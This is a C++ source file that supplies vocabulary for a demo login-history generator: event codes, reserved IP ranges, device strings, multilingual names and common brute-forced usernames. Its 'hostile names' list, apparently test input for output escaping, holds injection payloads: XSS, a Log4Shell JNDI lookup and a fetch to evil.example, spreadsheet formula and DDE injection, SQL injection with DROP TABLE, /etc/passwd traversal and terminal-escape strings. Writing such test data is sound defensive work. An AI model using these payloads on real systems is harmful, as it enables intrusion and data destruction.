#include "logbook/demo/vocabulary.hpp"

#include <algorithm>
#include <array>

#include "logbook/demo/query.hpp"

namespace logbook::demo {
namespace {

using namespace std::string_view_literals;

constexpr std::array kActionNames{
    ActionName{1000, "LoginSuccess", "Successful login"},
    ActionName{1001, "LoginSuccessViaSocialAccount", "Successful login. Linked account"},
    ActionName{1002, "LoginFailInvalidCombination", "Failed login. Invalid combination"},
    ActionName{1003, "LoginFailSocialAccountNotFound", "Failed login. Linked account not found"},
    ActionName{1004, "LoginFailDisabledProfile", "Failed login. Disabled profile"},
    ActionName{1005, "LoginFail", "Failed login"},
    ActionName{1006, "Logout", "Logout"},
    ActionName{1007, "LoginSuccessViaSms", "Successful login. SMS"},
    ActionName{1008, "LoginFailViaSms", "Failed login. SMS"},
    ActionName{1009, "LoginFailIpSecurity", "Failed login. IP security"},
    ActionName{1010, "LoginSuccessViaApi", "Successful login. API"},
    ActionName{1011, "LoginSuccessViaSocialApp", "Successful login. Social application"},
    ActionName{1012, "LoginSuccessViaApiSms", "Successful login. API, SMS"},
    ActionName{1013, "LoginFailViaApi", "Failed login. API"},
    ActionName{1014, "LoginFailViaApiSms", "Failed login. API, SMS"},
    ActionName{1015, "LoginSuccessViaSSO", "Successful login. SSO"},
    ActionName{1016, "SessionStarted", "Session started"},
    ActionName{1017, "SessionCompleted", "Session completed"},
    ActionName{1018, "LoginFailViaSSO", "Failed login. SSO"},
    ActionName{1019, "LoginSuccessViaApiSocialAccount", "Successful login. Linked account \"{0}\""},
    ActionName{1020, "LoginFailViaApiSocialAccount", "Failed login. Linked account"},
    ActionName{1021, "LoginSuccesViaTfaApp", "Successful login. Authenticator app"},
    ActionName{1022, "LoginFailViaTfaApp", "Failed login. Authenticator app"},
    ActionName{1023, "LoginFailBruteForce", "Failed login. Brute-force attack"},
    ActionName{1024, "LoginSuccessViaApiTfa", "Successful login. API, authenticator app"},
    ActionName{1025, "LoginFailViaApiTfa", "Failed login. API, authenticator app"},
    ActionName{1026, "LoginFailRecaptcha", "Failed login. Captcha"},
    ActionName{1027, "AuthLinkActivated", "Authorization link activated"},
    ActionName{1028, "LoginSuccessViaOAuth", "Successful login. OAuth"},
    ActionName{1029, "LoginSuccessViaPassword", "Successful login. Password"},
};
static_assert(kActionNames.front().number == 1000 && kActionNames.back().number == 1029 && kActionNames.size() == 30);

// Of the portal's table of other events: the numbers are the portal's, the names and texts ours but for a few.
constexpr std::array kAuditActions{
    ActionName{4000, "UserCreated", "User added"},
    ActionName{4017, "UserSentPasswordChangeInstructions", "Password change instructions sent"},
    ActionName{4034, "UserLogoutActiveConnections", "Own connections ended"},
    ActionName{4035, "UserLogoutActiveConnection", "Connection ended"},
    ActionName{4036, "UserLogoutActiveConnectionsForUser", "Connections of a user ended"},
    ActionName{6027, "LoginHistoryReportDownloaded", "Login history report made"},
    ActionName{6035, "AuditSettingsUpdated", "Lifetime settings changed"},
    ActionName{6058, "ApiKeyCreated", "API key created"},
    ActionName{6059, "ApiKeyUpdated", "API key updated"},
    ActionName{6060, "ApiKeyDeleted", "API key deleted"},
    ActionName{6095, "BruteForceSettingsUpdated", "Brute-force settings changed"},
    ActionName{9908, "GenerateAuthorizationCodeToken", "Authorization code issued"},
    ActionName{9909, "GeneratePersonalAccessToken", "Personal access token issued"},
};

constexpr std::uint32_t ipv4(std::uint32_t a, std::uint32_t b, std::uint32_t c, std::uint32_t d) {
  return a << 24 | b << 16 | c << 8 | d;
}

// Only networks that belong to nobody: those for documentation, benchmarks, carriers' and private use.
constexpr std::array kPlaces{
    Place{ipv4(203, 0, 113, 0), 40, "", "Germany", "Berlin"},
    Place{ipv4(203, 0, 113, 64), 30, "", "Latvia", "Riga"},
    Place{ipv4(100, 64, 0, 0), 4000, "", "Germany", "Munich"},
    Place{ipv4(100, 66, 0, 0), 4000, "", "Germany", "Köln"},
    Place{ipv4(100, 70, 0, 0), 2000, "", "France", "Paris"},
    Place{ipv4(100, 72, 16, 0), 2000, "", "United Kingdom", "London"},
    Place{ipv4(100, 75, 0, 0), 2000, "", "Poland", "Kraków"},
    Place{ipv4(100, 80, 0, 0), 3000, "", "United States", "New York"},
    Place{ipv4(100, 84, 0, 0), 2000, "", "Japan", "Tokyo"},
    Place{ipv4(100, 90, 0, 0), 1000, "", "Brazil", "São Paulo"},
    Place{ipv4(100, 99, 0, 0), 500, "", "Singapore", "", true},
    Place{ipv4(10, 20, 0, 0), 900, "", "", ""},
    Place{ipv4(192, 168, 1, 0), 250, "", "", ""},
    Place{0, 0, "2a02", "", ""},
    Place{0, 0, "2001", "", ""},
    // Strangers from here on.
    Place{ipv4(198, 51, 100, 0), 250, "", "Netherlands", "Amsterdam"},
    Place{ipv4(192, 0, 2, 0), 250, "", "Russia", "Saint Petersburg"},
    Place{ipv4(198, 18, 0, 0), 30000, "", "China", "Shenzhen"},
    Place{ipv4(198, 19, 0, 0), 30000, "", "Vietnam", "Hanoi"},
    Place{0, 0, "", "", ""},
    Place{0, 0, "2602", "", ""},
    Place{0, 0, "127.0.0.1' OR '1'='1", "", ""},
};
static_assert(kPlaces[kFirstForeignPlace].city == "Amsterdam" && kPlaces.size() == kForgedPlace + 1);

constexpr std::array kDevices{
    Device{"Chrome 137", "Windows 10"},
    Device{"Chrome 138", "Windows 10"},
    Device{"Edge 137", "Windows 10"},
    Device{"Firefox 139", "Windows 10"},
    Device{"Firefox 139", "Linux"},
    Device{"Firefox 140", "Ubuntu"},
    Device{"Chrome 137", "Linux"},
    Device{"Safari 18", "Mac OS X 10 Apple Mac"},
    Device{"Chrome 138", "Mac OS X 10 Apple Mac"},
    Device{"Mobile Safari 18", "iOS 18 Apple iPhone"},
    Device{"Mobile Safari 17", "iOS 17 Apple iPad"},
    Device{"Chrome Mobile 137", "Android 14  Samsung SM-S918B"},
    Device{"Chrome Mobile 136", "Android 15 Google Pixel 8"},
    Device{"Opera 119", "Windows 10"},
    Device{"Python Requests 2", "Other"},
    Device{"", ""},
    Device{"Unknown", "Unknown"},
    Device{"\x1b[31mChrome\x1b[0m 9", "Windows\r\n10\xE2\x80\xAE"},  // NOLINT(misc-misleading-bidirectional)
};

constexpr std::array kAttackedNames{
    "admin"sv,  "root"sv,     "administrator"sv, "test"sv,     "user"sv,   "guest"sv,   "support"sv, "info"sv,
    "backup"sv, "postgres"sv, "oracle"sv,        "sysadmin"sv, "demo"sv,   "ftpuser"sv, "manager"sv, "webmaster"sv,
    "sales"sv,  "office"sv,   "scan"sv,          "it"sv,       "admin1"sv, "master"sv,
};

constexpr std::array kHostileNames{
    "\x1b[2J\x1b[1;31mroot\x1b[0m"sv,  // clears a terminal, writes in red
    "\x1b]0;owned\x07"
    "admin"sv,                                     // sets a terminal's title
    "ann@example.com\n2026-11-22 root success"sv,  // forges a line of a log
    "bo\r\nX-Injected: yes"sv,                     // forges a header
    R"("quoted", and, commas)"sv,                  // quotes and commas for CSV
    R"(it's \"escaped\" {"a":[1]},{"id":7})"sv,    // looks like the next row of the answer
    "\xE2\x80\xAEmoc.elpmaxe@nimda"sv,             // right-to-left override NOLINT(misc-misleading-bidirectional)
    "\xE2\x80\x8F\xD7\x90\xD7\x91\xD7\x92 abc"sv,  // right-to-left mark
    "<script>alert(1)</script>"sv,                 // a script
    "<img src=x onerror=\"fetch('//evil.example')\">&amp;"sv,          // a script in an attribute
    R"(=HYPERLINK("http://evil.example","open"))"sv,                   // a formula, once it is in a spreadsheet
    "@SUM(1+1)*cmd|' /C calc'!A0"sv,                                   // a formula that calls a program
    "+49 30 901820"sv,                                                 // a telephone number, read as a formula
    "-2+3"sv,                                                          // a formula without letters
    "\t=1+1"sv,                                                        // a formula behind a tab
    "NUL\0inside"sv,                                                   // ends a string of C
    "' OR 1=1; DROP TABLE login_events; --"sv,                         // SQL
    "\xF0\x9F\x94\x91\xF0\x9F\x90\xB1\xE2\x80\x8D\xF0\x9F\x91\xA4"sv,  // key, ninja cat
    "Correct-Horse-Battery-7"sv,                                       // a password in the wrong field
    "../../etc/passwd"sv,                                              // a path
    "${jndi:ldap://evil.example/a}"sv,                                 // a look-up by a logger
    "%s%n%x"sv,                                                        // a format string
    "c1\xC2\x9B"
    "31m\xC2\x85next"sv,            // control characters of Latin-1
    "line\xE2\x80\xA8separator"sv,  // a line break of Unicode
    "  spaces around  "sv,          // what a form that trims would not send
};

// What belongs together stands together: a first name with a last name of the same part of the world.
constexpr std::array kFirstEnglish{Spelling{"Ann", "ann"},         Spelling{"James", "james"},
                                   Spelling{"Olivia", "olivia"},   Spelling{"Grace", "grace"},
                                   Spelling{"Siobhán", "siobhan"}, Spelling{"Mary-Jane", "mary-jane"}};
constexpr std::array kLastEnglish{Spelling{"Example", "example"},       Spelling{"O'Brien", "obrien"},
                                  Spelling{"Walker", "walker"},         Spelling{"Smith & Sons", "smith"},
                                  Spelling{"Fitzgerald", "fitzgerald"}, Spelling{"St. John", "stjohn"}};
constexpr std::array kFirstGerman{Spelling{"Jürgen", "juergen"}, Spelling{"Käthe", "kaethe"},
                                  Spelling{"Lukas", "lukas"}, Spelling{"Anneliese", "anneliese"},
                                  Spelling{"Sabine", "sabine"}};
constexpr std::array kLastGerman{Spelling{"Müller", "mueller"}, Spelling{"Groß", "gross"},
                                 Spelling{"von der Heide", "vonderheide"}, Spelling{"Schröder", "schroeder"},
                                 Spelling{"Krüger", "krueger"}};
constexpr std::array kFirstFrench{Spelling{"Zoé", "zoe"}, Spelling{"François", "francois"},
                                  Spelling{"Hélène", "helene"}, Spelling{"Jean-Luc", "jean-luc"}};
constexpr std::array kLastFrench{Spelling{"Lefèvre", "lefevre"}, Spelling{"d'Aubigné", "daubigne"},
                                 Spelling{"Garçon", "garcon"}};
constexpr std::array kFirstNordic{Spelling{"Björn", "bjoern"}, Spelling{"Åsa", "asa"}, Spelling{"Søren", "soren"}};
constexpr std::array kLastNordic{Spelling{"Ångström", "angstrom"}, Spelling{"Sørensen", "sorensen"},
                                 Spelling{"Þórsdóttir", "thorsdottir"}};
constexpr std::array kFirstPolish{Spelling{"Łukasz", "lukasz"}, Spelling{"Żaneta", "zaneta"},
                                  Spelling{"Wojciech", "wojciech"}};
constexpr std::array kLastPolish{Spelling{"Wójcik", "wojcik"}, Spelling{"Dąbrowska", "dabrowska"},
                                 Spelling{"Śliwa", "sliwa"}};
constexpr std::array kFirstLatvian{Spelling{"Jānis", "janis"}, Spelling{"Līga", "liga"}, Spelling{"Kārlis", "karlis"}};
constexpr std::array kLastLatvian{Spelling{"Bērziņš", "berzins"}, Spelling{"Kalniņa", "kalnina"}};
constexpr std::array kFirstRussian{Spelling{"Ольга", "olga"}, Spelling{"Женя", "zhenya"}, Spelling{"Саша", "sasha"}};
constexpr std::array kLastRussian{Spelling{"Кузнец", "kuznets"}, Spelling{"Шевченко", "shevchenko"},
                                  Spelling{"Мороз", "moroz"}};
constexpr std::array kFirstSpanish{Spelling{"José", "jose"}, Spelling{"Begoña", "begona"}, Spelling{"Iñaki", "inaki"}};
constexpr std::array kLastSpanish{Spelling{"Núñez", "nunez"}, Spelling{"Ibáñez", "ibanez"},
                                  Spelling{"de la Peña", "delapena"}};
constexpr std::array kFirstTurkish{Spelling{"İpek", "ipek"}, Spelling{"Çağrı", "cagri"}, Spelling{"Gül", "gul"}};
constexpr std::array kLastTurkish{Spelling{"Yıldız", "yildiz"}, Spelling{"Öztürk", "ozturk"}};
constexpr std::array kFirstGreek{Spelling{"Γιώργος", "giorgos"}, Spelling{"Ελένη", "eleni"}};
constexpr std::array kLastGreek{Spelling{"Παπαδάκη", "papadaki"}, Spelling{"Ωνάση", "onasi"}};
constexpr std::array kFirstArabic{Spelling{"محمد", "mohammed"}, Spelling{"فاطمة", "fatima"}};
constexpr std::array kLastArabic{Spelling{"الفاسي", "alfassi"}, Spelling{"حداد", "haddad"}};
constexpr std::array kFirstHebrew{Spelling{"נועה", "noa"}, Spelling{"יוסף", "yosef"}};
constexpr std::array kLastHebrew{Spelling{"כהן", "cohen"}, Spelling{"לוי", "levi"}};
constexpr std::array kFirstHindi{Spelling{"प्रिया", "priya"}, Spelling{"अर्जुन", "arjun"}};
constexpr std::array kLastHindi{Spelling{"शर्मा", "sharma"}, Spelling{"पटेल", "patel"}};
constexpr std::array kFirstChinese{Spelling{"伟", "wei"}, Spelling{"秀英", "xiuying"}};
constexpr std::array kLastChinese{Spelling{"王", "wang"}, Spelling{"李", "li"}};
constexpr std::array kFirstJapanese{Spelling{"さくら", "sakura"}, Spelling{"健太", "kenta"}};
constexpr std::array kLastJapanese{Spelling{"鈴木", "suzuki"}, Spelling{"高橋", "takahashi"}};
constexpr std::array kFirstKorean{Spelling{"민준", "minjun"}, Spelling{"서연", "seoyeon"}};
constexpr std::array kLastKorean{Spelling{"김", "kim"}, Spelling{"박", "park"}};
constexpr std::array kFirstVietnamese{Spelling{"Nguyệt", "nguyet"}, Spelling{"Đức", "duc"}};
constexpr std::array kLastVietnamese{Spelling{"Trần", "tran"}, Spelling{"Phạm", "pham"}};

const std::array kNameFamilies{
    NameFamily{kFirstEnglish, kLastEnglish},       NameFamily{kFirstGerman, kLastGerman},
    NameFamily{kFirstFrench, kLastFrench},         NameFamily{kFirstNordic, kLastNordic},
    NameFamily{kFirstPolish, kLastPolish},         NameFamily{kFirstLatvian, kLastLatvian},
    NameFamily{kFirstRussian, kLastRussian},       NameFamily{kFirstSpanish, kLastSpanish},
    NameFamily{kFirstTurkish, kLastTurkish},       NameFamily{kFirstGreek, kLastGreek},
    NameFamily{kFirstArabic, kLastArabic},         NameFamily{kFirstHebrew, kLastHebrew},
    NameFamily{kFirstHindi, kLastHindi},           NameFamily{kFirstChinese, kLastChinese},
    NameFamily{kFirstJapanese, kLastJapanese},     NameFamily{kFirstKorean, kLastKorean},
    NameFamily{kFirstVietnamese, kLastVietnamese},
};

}  // namespace

std::span<const ActionName> action_names() { return kActionNames; }

const ActionName* find_action(std::int32_t number) {
  const auto first = kActionNames.front().number;
  if (number >= first && number <= kActionNames.back().number) {
    return &kActionNames[static_cast<std::size_t>(number - first)];
  }
  const auto* const found = std::ranges::find(kAuditActions, number, &ActionName::number);
  return found == kAuditActions.end() ? nullptr : found;
}

const ActionName* find_action(std::string_view name) {
  for (const auto table : {std::span<const ActionName>(kActionNames), std::span<const ActionName>(kAuditActions)}) {
    for (const auto& action : table) {
      if (same_letters(action.name, name)) return &action;
    }
  }
  return nullptr;
}
std::span<const Place> places() { return kPlaces; }
std::span<const Device> devices() { return kDevices; }
std::span<const std::string_view> attacked_names() { return kAttackedNames; }
std::span<const std::string_view> hostile_names() { return kHostileNames; }
std::span<const NameFamily> name_families() { return kNameFamilies; }

}  // namespace logbook::demo
